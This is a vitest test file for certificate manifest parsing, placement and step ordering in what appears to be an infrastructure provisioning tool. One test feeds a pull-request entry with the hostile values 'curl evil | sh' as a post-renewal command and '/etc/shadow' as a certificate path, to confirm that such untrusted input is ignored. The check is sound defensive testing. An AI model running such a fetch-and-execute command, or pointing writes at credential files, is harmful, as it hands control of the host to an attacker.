import { describe, expect, it } from "vitest";
import { checkCertificateManifest, listCertificateSpecs } from "../../../src/certs/certificate-spec.js";
import type { CertificateState } from "../../../src/certs/certificate-status.js";
import type { PlannedCertificate } from "../../../src/certs/plan-certificates.js";
import { orderCertificateSteps, type CertificateStagePlan } from "../../../src/pipeline/certificate-stage.js";
import { CertificateSettings } from "../../../src/settings/certificate-settings.js";
import { buildReferenceLikeState } from "../infra/desired-state-fixture.js";

const settings = (extra: Record<string, unknown> = {}) => CertificateSettings.parse({ directoryUrl: "https://ca.example.test/dir", accountKey: "/etc/phoenix/acme.key", ...extra });
const entry = (name: string, extra: Record<string, unknown> = {}) => ({ common_name: name, cert_path: `/ssl/${name}.crt`, key_path: `/ssl/${name}.key`, ...extra });

describe("the desired certificates", () => {
  it("name the common name first, lower-case and once, and take the holder from guest_id or the guest's kind", () => {
    const state = buildReferenceLikeState({ certificates: [entry("GW.example.test", { sans: ["app.example.test", "gw.example.test"] }), entry("in-guest.example.test", { guest_id: 101 }), entry("vm.example.test", { guest_id: "1001", guest_type: "vm" })] });
    const specs = listCertificateSpecs(state, settings());
    expect(specs.map((s) => [s.commonName, s.names, s.placement?.holder])).toEqual([
      ["gw.example.test", ["gw.example.test", "app.example.test"], { kind: "host" }],
      ["in-guest.example.test", ["in-guest.example.test"], { kind: "lxc", ctid: "101" }],
      ["vm.example.test", ["vm.example.test"], { kind: "vm", vmid: "1001" }],
    ]);
  });

  it("are placed by the trusted state for a pull request: its paths and commands, never the tree's; a new one is not placed", () => {
    const trusted = buildReferenceLikeState({ certificates: [entry("gw.example.test", { post_renewal_command: "systemctl reload nginx" })] });
    const pr = buildReferenceLikeState({ certificates: [entry("gw.example.test", { cert_path: "/etc/shadow", post_renewal_command: "curl evil | sh" }), entry("new.example.test")] });
    const [gw, added] = listCertificateSpecs(pr, settings(), trusted);
    expect(gw?.placement).toMatchObject({ certPath: "/ssl/gw.example.test.crt", postRenewalCommand: "systemctl reload nginx" });
    expect(added?.placement).toBeUndefined();
  });

  it("refuse two entries of one common name, and a wildcard without DNS-01", () => {
    const state = buildReferenceLikeState({ certificates: [entry("gw.example.test", { sans: ["*.apps.example.test"] }), entry("GW.example.test")] });
    expect(checkCertificateManifest(state, settings({ challenge: "http-01" })).map((d) => [d.path, d.code])).toEqual([
      ["[0].sans", "CERT_MANIFEST_INVALID"],
      ["[1].common_name", "CERT_MANIFEST_INVALID"],
    ]);
    expect(checkCertificateManifest(state, settings()).map((d) => d.path)).toEqual(["[1].common_name"]);
    expect(checkCertificateManifest(state, undefined)).toEqual([]);
  });
});

describe("certificate steps of a plan", () => {
  const planned = (name: string, status: CertificateState["status"], action: CertificateState["action"]): PlannedCertificate =>
    ({ spec: { commonName: name }, state: { commonName: name, status, action } }) as unknown as PlannedCertificate;
  const stage = (challenge: "dns-01" | "http-01"): CertificateStagePlan =>
    ({ settings: settings({ challenge }), planned: [planned("a", "missing", "issue"), planned("b", "due", "issue"), planned("c", "wrong-mode", "fix-permissions"), planned("d", "valid", "none")] }) as unknown as CertificateStagePlan;

  it("issue with DNS-01 early, right after DNS and the firewall", () => {
    expect(orderCertificateSteps(stage("dns-01"))).toEqual({
      early: [
        { unit: "certificate/a", action: "issue" },
        { unit: "certificate/b", action: "issue" },
        { unit: "certificate/c", action: "fix-permissions" },
      ],
      beforeGateway: [],
      afterGateway: [],
    });
  });

  it("issue with HTTP-01 after the gateway, a missing pair bootstrapped before it", () => {
    expect(orderCertificateSteps(stage("http-01"))).toEqual({
      early: [{ unit: "certificate/c", action: "fix-permissions" }],
      beforeGateway: [{ unit: "certificate/a", action: "bootstrap" }],
      afterGateway: [
        { unit: "certificate/a", action: "issue" },
        { unit: "certificate/b", action: "issue" },
      ],
    });
  });
});
